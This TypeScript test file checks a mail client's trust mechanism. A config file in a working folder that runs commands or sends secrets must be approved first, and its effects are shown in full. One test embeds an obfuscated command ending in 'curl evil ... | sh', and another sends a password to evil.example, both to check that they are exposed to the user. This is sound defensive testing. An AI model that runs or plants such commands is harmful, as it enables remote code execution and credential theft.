import { mkdir, readFile, rename, stat, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { describeSecrets } from '../../src/config/describe-secrets.ts';
import { approve, isTrusted, loadTrustedConfig } from '../../src/config/trust.ts';
import { around, errorOf, least, newFolder, parse, withImap } from './help.ts';

async function project(text = least) {
  const home = await newFolder();
  const cwd = join(home, 'cloned');
  await mkdir(cwd);
  const file = join(cwd, '.clientrc');
  await writeFile(file, text, { mode: 0o600 });
  return { home, cwd, file, at: around(home, cwd) };
}

const yes = async () => true;

describe('a file of a working folder', () => {
  test('is refused until approved, and again once changed or moved', async () => {
    const { at, file, cwd } = await project();
    const words = await errorOf(loadTrustedConfig(at, null), 'config-untrusted');
    expect(words).toContain('runs the command "pass show mail" and sends its output to imap.agency.example:993');
    expect(words).toContain(`client-check trust ${file}`);
    expect(await errorOf(loadTrustedConfig(at, null), 'config-untrusted', 'ja')).toContain(
      '「pass show mail」を実行し',
    );

    const approved = await loadTrustedConfig(at, null, yes);
    expect(await isTrusted(approved, at)).toBe(true);
    expect((await loadTrustedConfig(at, null)).config.accounts).toHaveLength(1);

    await writeFile(file, `${least}# changed\n`);
    await errorOf(loadTrustedConfig(at, null), 'config-untrusted');
    await approve(await loadTrustedConfig(at, file), at);
    await loadTrustedConfig(at, null);

    await rename(file, join(cwd, '.clientrc.yaml'));
    await errorOf(loadTrustedConfig(at, null), 'config-untrusted');
  });

  test('asks with what the file would do; no means no, and is not remembered', async () => {
    const { at } = await project();
    const asked: string[] = [];
    const no = async (_: unknown, uses: readonly { en: string }[]) => {
      asked.push(...uses.map(({ en }) => en));
      return false;
    };
    await errorOf(loadTrustedConfig(at, null, no), 'config-untrusted');
    await errorOf(loadTrustedConfig(at, null), 'config-untrusted');
    expect(asked).toHaveLength(1);
  });

  test('needs no approval where it takes nothing from outside', async () => {
    const { at } = await project(withImap('      auth: { password: hunter2 }'));
    expect((await loadTrustedConfig(at, null)).origin).toBe('working-folder');
  });

  test.each([
    withImap('      auth: { passwordEnv: P }'),
    withImap('      auth: { keyring: true }'),
    withImap('      auth: { oauth2: { provider: google, clientId: a } }'),
    withImap('      auth: { password: p }\n    smtp: { host: s.example, auth: { passwordCommand: c } }'),
    `${withImap('      auth: { password: p }')}notify: { webhook: { kind: slack, urlEnv: U } }\n`,
    `${withImap('      auth: { password: p }')}notify: { webhook: { kind: slack, urlCommand: c } }\n`,
  ])('needs approval wherever the secret stands (%#)', async (text) => {
    await errorOf(loadTrustedConfig((await project(text)).at, null), 'config-untrusted');
  });
});

test('a file that the user named, or of home, needs no approval', async () => {
  const { at, file, home } = await project();
  await loadTrustedConfig(at, file);
  await loadTrustedConfig({ ...at, env: { CLIENT_CHECK_CONFIG: file } }, null);
  await writeFile(join(home, '.clientrc'), least);
  expect((await loadTrustedConfig(around(home, home), null)).origin).toBe('user');
});

describe('the store', () => {
  test('is private, and a damaged one approves nothing', async () => {
    const { at, home } = await project();
    await loadTrustedConfig(at, null, yes);
    const store = join(home, '.local/state/client-check/trust.json');
    expect((await stat(store)).mode & 0o777).toBe(0o600);
    expect((await stat(join(store, '..'))).mode & 0o777).toBe(0o700);
    for (const damaged of ['', '[]', '{"approved":1}', '{"approved":[null]}']) {
      await writeFile(store, damaged);
      await errorOf(loadTrustedConfig(at, null), 'config-untrusted');
    }
    await loadTrustedConfig(at, null, yes);
    await loadTrustedConfig(at, null);
  });

  test('keeps the others; lies in $XDG_STATE_HOME', async () => {
    const { at, cwd, home, file } = await project();
    const state = { ...at, env: { XDG_STATE_HOME: join(home, 'state') } };
    await loadTrustedConfig(state, null, yes);
    await mkdir(join(cwd, 'sub'));
    await writeFile(join(cwd, 'sub/.clientrc'), least);
    await loadTrustedConfig({ ...state, cwd: join(cwd, 'sub') }, null, yes);
    const stored = JSON.parse(await readFile(join(home, 'state/client-check/trust.json'), 'utf8'));
    expect(stored.approved.map(({ path }: { path: string }) => path)).toEqual([file, join(cwd, 'sub/.clientrc')]);
  });

  test('that cannot be written is told', async () => {
    const { at, home } = await project();
    await writeFile(join(home, '.local'), '');
    expect(await errorOf(loadTrustedConfig(at, null, yes), 'file-unwritable')).toContain('trust.json');
  });
});

test('no part of a command is hidden', () => {
  const written = 'pass x\\n\\e[1A\\e[2K\\u202E; curl evil \\u200b\\u3164\\U000E0001| sh';
  const [use] = describeSecrets(parse(withImap(`      auth: { passwordCommand: "${written}" }`)));
  expect(use?.en).toBe(
    'work: runs the command "pass x\\u{a}\\u{1b}[1A\\u{1b}[2K\\u{202e}; curl evil \\u{200b}\\u{3164}\\u{e0001}| sh" ' +
      'and sends its output to imap.agency.example:993 as the password',
  );
  const long = 'x'.repeat(5000);
  const [list] = describeSecrets(parse(withImap(`      auth: { passwordCommand: [a b, ${long}] }`)));
  expect(list?.ja).toContain(`["a b", "${long}"]`);
});

test('the host of smtp is told too, since the password goes there as well', () => {
  const text = `${withImap('      auth: { passwordEnv: P }').trimEnd()}\n    smtp: { host: evil.example }\n`;
  expect(describeSecrets(parse(text)).map(({ en }) => en)).toEqual([
    'work: sends the environment variable P to imap.agency.example:993 as the password',
    'work: sends the environment variable P to evil.example:465 as the password',
  ]);
});
